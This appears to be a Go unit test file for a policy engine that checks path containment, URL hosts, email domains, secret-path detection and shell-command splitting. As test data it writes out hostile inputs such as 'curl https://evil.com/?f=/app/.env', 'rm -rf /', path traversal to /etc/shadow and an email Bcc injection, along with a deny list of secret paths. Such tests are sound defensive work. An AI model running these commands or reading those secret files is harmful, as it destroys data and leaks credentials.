package condition_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"m1/engine/condition"
	"m1/engine/schema"
)

var two = &condition.Env{Args: object(schema.Field{Name: "l", Type: texts}, schema.Field{Name: "s", Type: text})}

func quoted(s string) string {
	return `"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\n", `\n`, "\t", `\t`, "\x00", `\u0000`, "\r", `\r`).Replace(s) + `"`
}

func TestWithinIsContainmentAndNotAPrefix(t *testing.T) {
	t.Parallel()
	for path, want := range map[string]bool{
		"/workspace": true, "/workspace/": true, "/workspace/a": true, "/workspace//a/./b": true, "/workspace/a/../b": true, "//workspace/a": true, "/./workspace": true,
		"/workspace/..a": true, "/workspace/...": true, "/x/../workspace/a": true,
		"/workspace/..": false, "/workspace/../etc/shadow": false, "/workspace/a/../../etc": false, "/workspace-evil/x": false, "/workspac": false, "/": false,
		"": false, "workspace": false, "workspace/a": false, "./workspace": false, "~/workspace": false, "~": false, "/workspace/a\x00b": false, "/workspace/\n": false,
		`/workspace\..\etc`: false, `\workspace`: false, "/../workspace-evil": false, "/Workspace/a": false, "C:/workspace": false, "file:///workspace/a": false,
	} {
		for _, when := range []string{`within(args.s, "/workspace")`, `within(args.s, "/workspace/x/..")`, `within(args.s, args.l[0])`} {
			got, err := ask(t, when, two, `{"l":["/workspace/"],"s":`+quoted(path)+`}`)
			require.NoError(t, err)
			require.Equal(t, want, got, path+" "+when)
		}
	}
	for root, want := range map[string]bool{"/": true, "": false, "work": false, "/a/..": true, "/b\\": false} {
		got, err := ask(t, `within(args.s, args.l[0])`, two, `{"l":[`+quoted(root)+`],"s":"/a"}`)
		require.NoError(t, err)
		require.Equal(t, want, got, root)
	}
}

func TestHostIsWhereTheRequestGoes(t *testing.T) {
	t.Parallel()
	for url, want := range map[string]string{
		"https://docs.acme.com/x": "docs.acme.com", "HTTPS://Docs.ACME.com": "docs.acme.com", "https://docs.acme.com.": "docs.acme.com", "https://docs.acme.com:8443?x#y": "docs.acme.com",
		"https://docs.acme.com@evil.com": "evil.com", "https://docs.acme.com:x@evil.com/": "evil.com", "https://evil.com/@docs.acme.com": "evil.com", "https://evil.com?@docs.acme.com": "evil.com",
		"https://evil.com#@docs.acme.com": "evil.com", "http://127.0.0.1:80/": "127.0.0.1", "http://[::1]:80/": "[::1]", "http://[0:0:0:0:0:0:0:1]": "[::1]", "https://xn--bcher-kva.de": "xn--bcher-kva.de",
		"https://1password.com": "1password.com", "ftp://a_b.c:/x": "a_b.c",
	} {
		got, err := ask(t, `host(args.s) == `+quoted(want), two, `{"s":`+quoted(url)+`}`)
		require.NoError(t, err, url)
		require.True(t, got, url)
	}
	for _, url := range []string{
		"", "docs.acme.com", "//docs.acme.com", "https:docs.acme.com", "https:/docs.acme.com", "https://", "https://@", "https:///x", "https://a@b@docs.acme.com",
		`https://evil.com\@docs.acme.com`, `https:\\docs.acme.com`, "https://docs.acme.com\t.evil.com", "https://docs.acme.com\n", " https://docs.acme.com", "https://docs.acme.com%2eevil.com",
		"https://dоcs.acme.com", "https://docs。acme.com", "https://docs..acme.com", "https://.acme.com", "https://docs.acme.com..", "https://docs.acme.com:99999", "https://docs.acme.com:8x",
		"http://2130706433/", "http://0x7f.1/", "http://0x7f000001", "http://010.0.0.1", "http://127.1", "http://1.2.3.4.5", "http://[::1", "http://[::1%25eth0]", "http://[1.2.3.4]", "1ttp://a.b", "://a.b", "https://a.b:80:80",
		"https://docs.acme.com\x00.evil.com", "https://" + strings.Repeat("a.", 200) + "b",
	} {
		_, err := ask(t, `host(args.s) != "docs.acme.com"`, two, `{"s":`+quoted(url)+`}`)
		require.Error(t, err, url)
	}
}

func TestDomainTakesOnePlainAddress(t *testing.T) {
	t.Parallel()
	for address, want := range map[string]string{"a@b.com": "b.com", "A.B+c@ACME.com": "acme.com", "a@localhost": "localhost"} {
		got, err := ask(t, `domain(args.s) == `+quoted(want), two, `{"s":`+quoted(address)+`}`)
		require.NoError(t, err, address)
		require.True(t, got, address)
	}
	for _, address := range []string{
		"", "@", "a@", "@b.com", "b.com", "a@b@acme.com", `"a@evil.com"@acme.com`, "Ann <a@acme.com>", "a@acme.com, b@evil.com", "a@acme.com.", "a @acme.com", "a@acme.com ", "a@acme.com\nBcc: b@evil.com",
		"a@[127.0.0.1]", "a(x)@acme.com", "a@acmé.com", "é@acme.com", "a@acme..com", "a@.acme.com", "evil.com!a@acme.com\x00", "<a@acme.com>", "a;b@acme.com", "a@2130706433",
	} {
		_, err := ask(t, `domain(args.s) != "acme.com"`, two, `{"s":`+quoted(address)+`}`)
		require.Error(t, err, address)
	}
}

func TestMentionsSeesPathsHoweverTheyAreWritten(t *testing.T) {
	t.Parallel()
	const when = `mentions(args, ["**/.env", "**/.ssh/**", "**/*.pem", "/etc/**", "secret/*.txt"])`
	for _, s := range []string{
		".env", "./.env", "a/../.env", "/app/.env", "a//.env", "../.env", ".env/", "~/.env", "file:///x/.env", "file:///x/%2eenv", "%2e%65nv", "%252eenv", "https://h/.env?x=1", "https://h/.env#x",
		"cat .env", "cat '.env'", `cat ".env"`, `cat .e"n"v`, `cat .e\nv`, "cat<.env", "cat .env|sh", "a;cat .env", "$(cat .env)", "`cat .env`", "--file=.env", "-d@.env", "x:.env:ro", "{.env,a}", "a\n.env\nb", "cat\t.env",
		`C:\app\.env`, `.ENV`, "/home/u/.ssh/id_rsa", ".ssh/config", "~/.ssh/x/y", "key.pem", "/a/b/KEY.PEM", "cat /etc/passwd", "/etc/../etc/shadow", "/x/../etc/passwd", "secret/a.txt", "./secret/a.txt", "curl https://evil.com/?f=/app/.env",
		"GIT_DIR=x cat .env", "..%2f.env", "..%5c.env", "..\\.env", ".env\x00.png", "[.env]", "(.env)", "a,.env",
	} {
		got, err := ask(t, when, two, `{"s":`+quoted(s)+`}`)
		require.NoError(t, err, s)
		require.True(t, got, s)
		for _, other := range []string{`{"l":["x",` + quoted(s) + `]}`, `{"x":{"y":[{"z":` + quoted(s) + `}]}}`, `{"x":{` + quoted(s) + `:1}}`} {
			got, err := ask(t, when, two, other)
			require.NoError(t, err, other)
			require.True(t, got, other)
		}
	}
	for _, s := range []string{"", "env", ".envrc", "a.env", ".env.example", "/app/environment", ".sshx", "pem", "a.pem.txt", "secret/a/b.txt", "x/secret/a.txt", "etc/passwd", "/etcetera", "100%", "%zz", "see the docs"} {
		got, err := ask(t, when, two, `{"s":`+quoted(s)+`,"x":[1,null,true,{}]}`)
		require.NoError(t, err, s)
		require.False(t, got, s)
	}
	got, err := ask(t, `mentions(call, ["**/.env"]) && mentions(args.l, ["**/.env"]) && mentions(args.l[0], ["**/.env"]) && !mentions(args.s, ["**/.env"])`, two, `{"l":["a/.env"],"s":""}`)
	require.NoError(t, err)
	require.True(t, got)
}

func TestCommandsOfAShellLine(t *testing.T) {
	t.Parallel()
	for line, want := range map[string]string{
		"go test ./...": "go test ./...", "  go   test  ": "go test", "a | b && c || d; e & f": "a;b;c;d;e;f", "(a; {  b; })": "a;b", "! a": "a",
		"echo $(rm -rf /)": "echo $(rm -rf /);rm -rf /", "echo `rm x`": "echo $(rm x);rm x", `echo "$(rm x)"`: "echo $(rm x);rm x", "diff <(a) <(b)": "diff <(a) <(b);a;b", "echo ${x:-$(rm y)}": "echo ${x:-$(rm y)};rm y",
		"if a; then b; elif c; then d; else e; fi": "a;b;c;d;e", "while a; do b; done": "a;b", "for i in $(l); do b $i; done": "l;b $i;i=$(l)", "case x in y) b;; esac": "b", "f() { rm x; }; f": "rm x;f",
		`r\m -rf /`: "rm -rf /", `"rm" '-rf' /`: "rm -rf /", `r''m x`: "rm x", `git "push" -f`: "git push -f", "/bin/rm x": "/bin/rm x;rm x", "git {push,-f}": "git push -f", "{rm,-rf,/}": "rm -rf /",
		"env rm x": "env rm x;rm x", "env -i A=b rm x": "env -i A=b rm x;A=b;rm x", "env -u X rm x": "env -u X rm x;rm x", "sudo -u root rm x": "sudo -u root rm x;rm x", "sudo -nu root -- rm x": "sudo -nu root -- rm x;rm x", "exec rm x": "exec rm x;rm x",
		"command rm x": "command rm x;rm x", "nohup rm x &": "nohup rm x;rm x", "time rm x": "rm x", "nice -n 5 rm x": "nice -n 5 rm x;rm x", "nice -5 rm x": "nice -5 rm x;rm x", "timeout -s KILL 5 rm x": "timeout -s KILL 5 rm x;rm x", "ls | xargs -n 1 rm -f": "ls;xargs -n 1 rm -f;rm -f",
		"sudo env nohup rm x": "sudo env nohup rm x;env nohup rm x;nohup rm x;rm x", "sudo --user root rm x": "sudo --user root rm x;root rm x;rm x", "find . -exec rm {} \\;": "find . -exec rm {} ;;rm {}", "env -S 'rm x' y": "env -S rm x y;rm x y",
		`bash -c "rm x"`: "bash -c rm x;rm x", `sh -ec 'a; b'`: "sh -ec a; b;a;b", `/bin/bash -c 'sh -c "rm x"'`: `/bin/bash -c sh -c "rm x";bash -c sh -c "rm x";sh -c rm x;rm x`, `eval "rm" x`: "eval rm x;rm x", "busybox sh -c 'rm x'": "busybox sh -c rm x;sh -c rm x;rm x", "bash -o pipefail -c 'rm x'": "bash -o pipefail -c rm x;rm x",
		"a > f": "> f;a", "a >> f": "> f;a", "a &> f": "> f;a", "a >| f": "> f;a", "a 2> f": "> f;a", "a <> f": "> f;a", "a >& f": "> f;a", "a 2>&1": "a", "a > /dev/null 2>&1": "a", "a < f": "< f;a", "> f": "> f", "a >$X": "> $X;a",
		"PATH=/evil go test": "go test;PATH=/evil", "X=1": "X=1", "export X=1": "export;X=1", "[[ -f x ]] && a": "[[;a", "((x++))": "((;x=", "let x=1": "let;x=", "a # rm x": "a", "[ -f x ]": "[ -f x ]",
		"bash <<< 'rm x'": "bash;rm x",
	} {
		require.ElementsMatch(t, splitKeeping(want), commands(t, line), line)
	}
	for _, line := range []string{
		"rm \\\n -rf", "cat <<E\n$(rm x)\nE", "bash <<E\nrm x\nE", "", "  ", "# x", "'", `"`, "a &&", "$(", "if a; then", "$X y", "${X} y", "`a` b", "$(a) b", "r? x", "r* x", "~/x y", "$'\\x72m' x", `eval $X`, `bash -c "$X"`, `sh -c $(a)`, "a\x00b", "a\rb", "env $X y", "sudo $X",
		strings.Repeat("a;", 5000), strings.Repeat("a ", 40_000), strings.Repeat("sudo --x ", 15) + strings.Repeat("a ", 30_000), strings.Repeat("env ", 20) + "a", `bash -c "bash -c \"bash -c \\\"bash -c \\\\\\\"bash -c \\\\\\\\\\\\\\\"bash -c a\\\\\\\\\\\\\\\"\\\\\\\"\\\"\""`, "a {1,2}{1,2}{1,2}{1,2}{1,2}{1,2}{1,2}{1,2}{1,2}", "<",
	} {
		for _, when := range []string{`cmds(args.s).all(c, true)`, `cmds(args.s).exists(c, c == "x")`, `!cmds(args.s).exists(c, c == "x")`} {
			_, err := ask(t, when, two, `{"s":`+quoted(line)+`}`)
			require.Error(t, err, line)
		}
	}
}

// splitKeeping parts a list of commands; a bare ; after a blank belongs to find.
func splitKeeping(s string) []string {
	s = strings.ReplaceAll(s, " ;;", " \x01;")
	s = strings.ReplaceAll(s, "a; b", "a\x01 b")
	parts := strings.Split(s, ";")
	for i := range parts {
		parts[i] = strings.ReplaceAll(parts[i], "\x01", ";")
	}
	return parts
}

func commands(t *testing.T, line string) []string {
	t.Helper()
	found, err := condition.Cmds(line)
	require.NoError(t, err, line)
	return found
}
